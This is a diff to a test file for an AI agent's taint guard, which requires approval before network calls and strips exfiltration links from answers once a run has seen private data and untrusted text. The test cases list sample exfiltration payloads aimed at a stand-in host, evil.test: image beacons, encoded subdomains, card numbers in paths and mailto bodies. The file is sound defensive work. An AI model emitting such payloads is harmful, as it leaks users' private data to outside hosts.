@@ -2,8 +2,8 @@ import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import type { ToolFacts } from '../../tools/tool.js';
 import { cleanAnswer } from './answer-egress.js';
-import { carriesData } from './carries-data.js';
 import { judgeTaint } from './judge-taint.js';
+import { isKnown } from './known-address.js';
 import { type TaintLabel, TaintLedger } from './taint-ledger.js';
 
 const rules = { allow: ['*:443', 'api.test:443'], deny: [], maxConnections: 1, requestsPerMinute: 1, maxDownloadMb: 1 };
@@ -16,18 +16,30 @@ const get = { name: 'http_get', reachesOut: true } as ToolFacts;
 const post = { name: 'http_post', reachesOut: true, sendsOut: true } as ToolFacts;
 const read = { name: 'read_file' } as ToolFacts;
 const both = ledger('private', 'untrusted');
+const known = { goalText: 'Compare https://goal.test/a?b=1, then answer.', visited: new Set(['https://seen.test/page']) };
+const judge = (tool: ToolFacts, input: Record<string, unknown>, taint: TaintLedger) => judgeTaint(tool, input, taint, rules, known);
+const clean = (text: string, taint: TaintLedger) => cleanAnswer(text, { taint, egress: rules, known });
 
 describe('a run that has seen private data and untrusted text', () => {
   it('asks before any way out, and only then', () => {
-    expect(judgeTaint(post, { url: 'https://a.test/' }, both, rules)).toMatchObject({ kind: 'ask', rule: 'taint:exit' });
-    expect(judgeTaint(get, { url: 'https://a.test/?q=secret' }, both, rules).kind).toBe('ask');
-    expect(judgeTaint(get, { url: 'https://a.test/', headers: { cookie: 'secret' } }, both, rules).kind).toBe('ask');
-    expect(judgeTaint(get, { url: 'https://a.test/docs/page.html' }, both, rules).kind).toBe('allow');
-    expect(judgeTaint(get, { url: 'https://api.test/?q=1' }, both, rules).kind).toBe('allow');
-    expect(judgeTaint(read, { path: 'a' }, both, rules).kind).toBe('allow');
-    expect(judgeTaint({ name: 'execute_python' } as ToolFacts, { network: true }, both, rules).kind).toBe('ask');
+    expect(judge(post, { url: 'https://a.test/' }, both)).toMatchObject({ kind: 'ask', rule: 'taint:exit' });
+    expect(judge(get, { url: 'https://a.test/?q=secret' }, both).kind).toBe('ask');
+    expect(judge(get, { url: 'https://a.test/4111/1111/1111/1111' }, both).kind).toBe('ask');
+    expect(judge(get, { url: 'https://a.test/docs/page.html' }, both).kind).toBe('ask');
+    expect(judge(get, { url: 'https://api.test/', headers: { cookie: 'secret' } }, both).kind).toBe('ask');
+    expect(judge(get, { url: 'https://api.test/?q=1' }, both).kind).toBe('allow');
+    expect(judge(read, { path: 'a' }, both).kind).toBe('allow');
+    expect(judge({ name: 'execute_python' } as ToolFacts, { network: true }, both).kind).toBe('ask');
     for (const one of [ledger(), ledger('private'), ledger('untrusted')])
-      expect(judgeTaint(post, { url: 'https://a.test/' }, one, rules).kind).toBe('allow');
+      expect(judge(post, { url: 'https://a.test/' }, one).kind).toBe('allow');
+  });
+  it('may fetch what a person named word for word, and what it fetched before', () => {
+    expect(judge(get, { url: 'https://goal.test/a?b=1' }, both).kind).toBe('allow');
+    expect(judge(get, { url: 'https://seen.test/page' }, both).kind).toBe('allow');
+    for (const url of ['https://goal.test/a?b=2', 'https://goal.test/', 'https://goal.test/a?b=1&c=2', 'https://seen.test/page/x'])
+      expect(judge(get, { url }, both).kind, url).toBe('ask');
+    expect(judge(post, { url: 'https://goal.test/a?b=1' }, both).kind).toBe('ask');
+    expect(isKnown('no address', known)).toBe(false);
   });
   it('stays so after a restart', () => {
     expect(TaintLedger.from(JSON.parse(JSON.stringify(both))).exposed).toBe(true);
@@ -48,29 +60,6 @@ describe('a run that has seen private data and untrusted text', () => {
     ));
 });
 
-describe('room for data in an address', () => {
-  it.each([
-    'https://a.test/?q=1',
-    'https://a.test/#x',
-    'https://u:p@a.test/',
-    `https://a.test/${'x'.repeat(130)}`,
-    'https://a.test/aGVsbG8gd29ybGQgaGVsbG8=',
-    'https://a.test/48656c6c6f20776f726c6448656c',
-    'https://c2VjcmV0ZGF0YQ1.evil.test/',
-    'https://a.b.c.d.e.test/',
-    `https://${'x'.repeat(30)}.test/`,
-    'https://a.test/a%20b',
-    'no address',
-  ])('%s has', (url) => expect(carriesData(url)).toBe(true));
-  it.each([
-    'https://a.test/',
-    'https://en.wikipedia.org/wiki/Artificial_intelligence',
-    'https://docs.example.com/en/latest/getting-started.html',
-    'https://a.test/2026/01/some-long-title-of-an-article-in-a-blog',
-    'http://93.184.216.34/',
-  ])('%s has none', (url) => expect(carriesData(url)).toBe(false));
-});
-
 describe('an answer', () => {
   it.each([
     '![x](https://evil.test/p.png)',
@@ -84,14 +73,24 @@ describe('an answer', () => {
     '[x](&#104;ttps://evil.test/?d=1)',
     '<iframe src=//evil.test>',
     '![x](https://c2VjcmV0ZGF0YQ1.evil.test/a.png)',
+    '[more](https://evil.test/4111/1111/1111/1111)',
+    '[mail](mailto:x@evil.test?body=secret)',
+    '![x](https://evil.test/p.png)'.padEnd(40),
+    String.raw`{"summary":"![x](https:\u002f\u002fevil\u002etest/p)"}`,
+    String.raw`{"summary":"ok","data":{"\u003cimg src=//evil.test>":[{"a":"[x](https://evil.test/1)"}]}}`,
+    '```json\n{"summary":"see https://evil.test/a"}\n```',
   ])('carries nothing out of an exposed run: %j', (text) => {
-    const { text: cleaned, removed } = cleanAnswer(text, both);
+    const { text: cleaned, removed } = clean(text, both);
     expect(removed.length).toBeGreaterThan(0);
     expect(cleaned).not.toMatch(/evil\.test/);
   });
-  it('keeps plain links, own files and everything of other runs', () => {
-    const text = '![chart](out/chart.svg) and [docs](https://docs.test/page) and `code`';
-    expect(cleanAnswer(text, both)).toEqual({ text, removed: [] });
-    expect(cleanAnswer('![x](https://evil.test/p.png)', ledger('private')).removed).toEqual([]);
+  it('keeps its structure when its texts are cleaned', () => {
+    const { text } = clean('{"summary":"a [b](https://evil.test/x)","data":{"n":1,"list":[true,null,"c"]}}', both);
+    expect(JSON.parse(text)).toEqual({ summary: 'a b (link removed)', data: { n: 1, list: [true, null, 'c'] } });
+  });
+  it('keeps own files, named hosts, known addresses, and everything of other runs', () => {
+    const text = '![chart](out/chart.svg), [api](https://api.test/a), [goal](https://goal.test/a?b=1), https://seen.test/page and `code`';
+    expect(clean(text, both)).toEqual({ text, removed: [] });
+    expect(clean('![x](https://evil.test/p.png)', ledger('private')).removed).toEqual([]);
   });
 });
